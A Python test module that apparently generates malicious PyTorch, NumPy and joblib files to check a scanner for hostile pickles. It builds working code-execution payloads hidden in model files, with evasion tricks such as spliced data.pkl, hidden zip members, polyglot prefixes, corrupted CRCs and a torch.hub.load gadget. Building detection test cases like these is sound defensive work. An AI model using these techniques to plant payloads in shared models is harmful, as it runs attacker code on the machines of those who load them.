"""Malicious files in the ML formats that carry pickles: PyTorch, NumPy, joblib.

Each is made with the real library (a payload object inside ordinary data), or made
with the library and then edited, as an attacker would.
"""

from __future__ import annotations

import io
import pickle
import zipfile
from collections.abc import Callable
from typing import Any

from . import _asm as a
from ._payloads import Registry, os_system, payload_pickle, reduce_object, write
from ._types import Built, Case, Ctx, Live

_reg = Registry()
case = _reg.case
SYSTEM = "os.system|posix.system"


def _torch_zip(obj: Any) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def _benign_state() -> dict[str, Any]:
    import torch

    return {"layer.weight": torch.arange(6, dtype=torch.float32).reshape(2, 3)}


def _rewrite_zip(
    data: bytes,
    *,
    edit: Callable[[bytes], bytes] | None = None,
    add: tuple[str, bytes] | None = None,
) -> tuple[bytes, str]:
    """Copy a torch zip, editing ``<prefix>/data.pkl`` or adding ``<prefix>/<name>``.

    Returns the new archive and the name of the member that now holds the payload.
    """
    out = io.BytesIO()
    member = ""
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            body = src.read(info)
            if edit is not None and info.filename.endswith("/data.pkl"):
                body, member = edit(body), info.filename
            dst.writestr(info, body)
        if add is not None:
            member = f"{src.namelist()[0].split('/')[0]}/{add[0]}"
            dst.writestr(member, add[1])
    return out.getvalue(), member


@case("torch-zip-data-pkl-replaced", critical=("os.system",), located=True)
def torch_replaced(c: Ctx) -> Built:
    """torch.save, then data.pkl swapped for a payload pickle."""
    data, member = _rewrite_zip(_torch_zip(_benign_state()), edit=lambda _: payload_pickle(c))
    return write(c, "model.pt", data, members=(member,), live=Live("torch"))


@case("torch-zip-data-pkl-injected", critical=("os.system",), located=True)
def torch_injected(c: Ctx) -> Built:
    """The real data.pkl with a payload call (and POP) spliced in after PROTO: still loads."""

    def inject(original: bytes) -> bytes:
        assert original[:1] == b"\x80"
        return original[:2] + a.discard(os_system(c)) + original[2:]

    data, member = _rewrite_zip(_torch_zip(_benign_state()), edit=inject)
    return write(c, "checkpoint.pth", data, members=(member,), live=Live("torch"))


@case("torch-zip-payload-as-storage-member", critical=("os.system",), located=True)
def torch_storage_member(c: Ctx) -> Built:
    """A payload pickle stored where tensor bytes live (``archive/data/99``)."""
    data, member = _rewrite_zip(_torch_zip(_benign_state()), add=("data/99", payload_pickle(c)))
    return write(c, "storage_member.pt", data, members=(member,), live=None)


@case("torch-zip-payload-hidden-member", critical=("os.system",), located=True)
def torch_hidden_member(c: Ctx) -> Built:
    """A payload pickle under an odd, hidden-looking member name."""
    extra = (".cache/__init__", payload_pickle(c, 4))
    data, member = _rewrite_zip(_torch_zip(_benign_state()), add=extra)
    return write(c, "hidden_member.pt", data, members=(member,), live=None)


@case("torch-legacy-format", critical=(SYSTEM,))
def torch_legacy(c: Ctx) -> Built:
    """torch.save(..., _use_new_zipfile_serialization=False) of a dict holding a payload."""
    import torch

    path = c.dir / "legacy.pt"
    obj = {**_benign_state(), "hook": reduce_object(c)}
    torch.save(obj, path, _use_new_zipfile_serialization=False)
    return Built(path, live=Live("torch"))


@case("torch-hub-load-partial-setstate", critical=("torch.hub.load", "functools.partial"))
def torch_hub(c: Ctx) -> Built:
    """partial(torch.hub.load) given kwargs by BUILD (partial.__setstate__), then called.

    torch.hub.load(dir, 'model', source='local') imports dir/hubconf.py.
    """
    hub = c.dir / "hub"
    hub.mkdir(parents=True, exist_ok=True)
    (hub / "hubconf.py").write_text(c.code + "def model():\n    return None\n")
    load = a.glob("torch.hub", "load")
    kwargs = a.dct([(a.ustr("source"), a.ustr("local")), (a.ustr("trust_repo"), pickle.NEWTRUE)])
    state = a.tup(load, a.tup(a.ustr(str(hub)), a.ustr("model")), kwargs, pickle.NONE)
    body = a.call(a.glob("functools", "partial"), load) + state + pickle.BUILD
    body += pickle.EMPTY_TUPLE + pickle.REDUCE
    return write(c, "hub.pkl", a.wrap(body, 2))


def _object_array(c: Ctx) -> Any:
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0] = "label"
    arr[1] = reduce_object(c)
    return arr


@case("npy-object-dtype", critical=(SYSTEM,))
def npy_object(c: Ctx) -> Built:
    import numpy as np

    path = c.dir / "labels.npy"
    np.save(path, _object_array(c), allow_pickle=True)
    return Built(path, live=Live("numpy"))


@case("npz-with-object-npy", critical=(SYSTEM,), located=True)
def npz_object(c: Ctx) -> Built:
    import numpy as np

    path = c.dir / "arrays.npz"
    np.savez(path, weights=np.zeros(4, dtype=np.float32), meta=_object_array(c))
    return Built(path, members=("meta.npy",), live=Live("numpy"))


def _joblib(c: Ctx, name: str, compress: Any) -> Built:
    import joblib
    import numpy as np

    path = c.dir / name
    joblib.dump({"coef": np.arange(12.0), "hook": reduce_object(c)}, path, compress=compress)
    return Built(path, live=Live("joblib"))


@case("joblib-uncompressed", critical=(SYSTEM,))
def joblib_plain(c: Ctx) -> Built:
    return _joblib(c, "model.joblib", 0)


@case("joblib-zlib", critical=(SYSTEM,))
def joblib_zlib(c: Ctx) -> Built:
    return _joblib(c, "model_zlib.joblib", 3)


@case("joblib-gzip", critical=(SYSTEM,))
def joblib_gzip(c: Ctx) -> Built:
    return _joblib(c, "model.joblib.gz", ("gzip", 3))


@case("joblib-bz2", critical=(SYSTEM,))
def joblib_bz2(c: Ctx) -> Built:
    return _joblib(c, "model.joblib.bz2", ("bz2", 3))


@case("joblib-lzma", critical=(SYSTEM,))
def joblib_lzma(c: Ctx) -> Built:
    return _joblib(c, "model.joblib.lzma", ("lzma", 3))


@case("joblib-xz", critical=(SYSTEM,))
def joblib_xz(c: Ctx) -> Built:
    return _joblib(c, "model.joblib.xz", ("xz", 3))


@case("joblib-object-array", critical=(SYSTEM,))
def joblib_object_array(c: Ctx) -> Built:
    """The payload inside an object-dtype array, which joblib pickles inline after the wrapper."""
    import joblib
    import numpy as np

    path = c.dir / "objects.joblib"
    joblib.dump({"coef": np.ones(3), "labels": _object_array(c)}, path)
    return Built(path, live=Live("joblib"))


def _npy_version(c: Ctx, version: tuple[int, int]) -> Built:
    import numpy as np

    path = c.dir / f"labels_v{version[0]}.npy"
    with path.open("wb") as f:
        np.lib.format.write_array(f, _object_array(c), version=version, allow_pickle=True)
    return Built(path, live=Live("numpy"))


@case("npy-v2-header-object", critical=(SYSTEM,))
def npy_v2(c: Ctx) -> Built:
    """Format 2.0: a 4-byte header length."""
    return _npy_version(c, (2, 0))


@case("npy-v3-header-object", critical=(SYSTEM,))
def npy_v3(c: Ctx) -> Built:
    """Format 3.0: a 4-byte header length and a UTF-8 header."""
    return _npy_version(c, (3, 0))


@case("joblib-legacy-zfile", critical=(SYSTEM,))
def joblib_zfile(c: Ctx) -> Built:
    """joblib's pre-0.10 'ZF' container (zlib after a hex length), still read by joblib.load."""
    from joblib import numpy_pickle_compat

    path = c.dir / "legacy.joblib"
    with path.open("wb") as f:
        numpy_pickle_compat.write_zfile(f, pickle.dumps({"hook": reduce_object(c)}, 2))
    return Built(path, live=Live("joblib"))


@case("npy-structured-object-field", critical=(SYSTEM,))
def npy_structured_object(c: Ctx) -> Built:
    """descr is a record with one object field, not '|O': the array is still pickled."""
    import numpy as np

    arr = np.zeros(2, dtype=[("weight", "<f8"), ("meta", "O")])
    arr["meta"][0] = reduce_object(c)
    path = c.dir / "records.npy"
    np.save(path, arr, allow_pickle=True)
    return Built(path, live=Live("numpy"))


@case("pickled-object-in-plain-dict", critical=(SYSTEM,))
def plain_dict(c: Ctx) -> Built:
    """A realistic pickle.dump of a training dict with one hostile value (protocol 4)."""
    obj = {"epoch": 3, "loss": 0.25, "vocab": ["a", "b"], "callback": reduce_object(c)}
    return write(c, "training_state.pkl", pickle.dumps(obj, protocol=4))


@case("pickle-prefix-then-torch-zip", critical=("os.system",))
def pickle_then_zip(c: Ctx) -> Built:
    """A payload pickle glued before a real torch zip: zip readers find the archive at the
    end, torch.load sees no zip magic at byte 0 and unpickles from the start."""
    data = payload_pickle(c) + _torch_zip(_benign_state())
    return write(c, "polyglot.pt", data, live=Live("torch"))


@case("harmless-pickle-prefix-then-malicious-zip", critical=("os.system",), located=True)
def harmless_then_zip(c: Ctx) -> Built:
    """A harmless pickle glued before a zip whose deflated data.pkl is the payload:
    zipfile (and anything built on it) opens the archive despite the prefix."""
    prefix = pickle.dumps({"format": "model-v1"}, protocol=2)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("archive/version", b"3\n")
        zf.writestr("archive/data.pkl", payload_pickle(c))
    return write(
        c, "prefixed.pt", prefix + out.getvalue(), members=("archive/data.pkl",), live=None
    )


@case(
    "torch-zip-bad-crc", critical=("os.system",), rules=("archive.",), error_ok=True, located=True
)
def torch_bad_crc(c: Ctx) -> Built:
    """data.pkl replaced by a payload whose CRC-32 is wrong in both headers."""
    data, member = _rewrite_zip(_torch_zip(_benign_state()), edit=lambda _: payload_pickle(c))
    raw = bytearray(data)
    for sig, crc_at in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        pos = raw.index(sig)
        while not raw[pos + (30 if sig == b"PK\x03\x04" else 46) :].startswith(member.encode()):
            pos = raw.index(sig, pos + 4)
        raw[pos + crc_at] ^= 0xFF
    return write(c, "bad_crc.pt", bytes(raw), members=(member,), live=Live("torch"))


def _npz_with(c: Ctx, name: str, compression: int) -> Built:
    """An .npz whose object-dtype member uses a compression numpy's zipfile supports."""
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, _object_array(c), allow_pickle=True)
    path = c.dir / name
    with zipfile.ZipFile(path, "w", compression=compression) as zf:
        zf.writestr("weights.npy", _npy_zeros())
        zf.writestr("meta.npy", buf.getvalue())
    return Built(path, members=("meta.npy",), live=Live("numpy"))


def _npy_zeros() -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.zeros(3))
    return buf.getvalue()


@case("npz-lzma-member", critical=(SYSTEM,), located=True)
def npz_lzma(c: Ctx) -> Built:
    return _npz_with(c, "lzma.npz", zipfile.ZIP_LZMA)


@case("npz-bzip2-member", critical=(SYSTEM,), located=True)
def npz_bzip2(c: Ctx) -> Built:
    return _npz_with(c, "bzip2.npz", zipfile.ZIP_BZIP2)


FORMAT_CASES: list[Case] = _reg.cases
